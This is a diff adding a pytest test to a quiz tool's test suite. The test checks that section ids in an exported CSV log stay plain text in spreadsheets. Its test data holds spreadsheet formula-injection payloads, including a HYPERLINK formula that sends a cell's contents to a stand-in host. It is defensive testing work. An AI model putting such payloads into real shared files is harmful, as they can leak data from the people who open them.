@@ -4,8 +4,10 @@ JSON file moves in once and stays as a backup, and the review log records every 
 
 from __future__ import annotations
 
+import csv
 import json
 import os
+import shutil
 import sqlite3
 import stat
 import sys
@@ -326,3 +328,24 @@ def test_a_spanish_quiz_warns_in_spanish(data_dir: Path) -> None:
     assert "es de solo lectura; las respuestas de esta sesión no se guardan" in result.stderr
     assert "El progreso no se guardó (vea el aviso de arriba)." in result.stdout
     assert "Warning" not in result.stderr
+
+
+FORMULAS = ['=HYPERLINK("http://example.invalid/?"&A1,"x")', "+1+1", "-1+1", "@SUM(A1)"]
+
+
+@pytest.mark.parametrize("section", FORMULAS)
+def test_the_csv_log_never_starts_a_formula(data_dir: Path, tmp_path: Path, section: str) -> None:
+    """A section id is free text in a bank (banks are shared): in the exported log it must stay
+    text when the file is opened in a spreadsheet, not become a formula or a link."""
+    bank = tmp_path / "bank"
+    shutil.copytree(EXAMPLE, bank)
+    quoted = json.dumps(section)
+    for name in ("bank.yaml", "intro.yaml"):
+        text = (bank / name).read_text(encoding="utf-8")
+        text = text.replace("- id: intro", f"- id: {quoted}").replace("section: intro", f"section: {quoted}")
+        (bank / name).write_text(text, encoding="utf-8")
+    _cli("quiz", str(bank), "--type", "true_false", input="t\n")
+    lines = _cli("progress", str(bank), "--export", "csv").stdout.splitlines()
+    assert len(lines) == 2
+    cells = next(csv.reader([lines[1]]))
+    assert cells[1:5] == ["example", "ex-002", "'" + section, "right"]
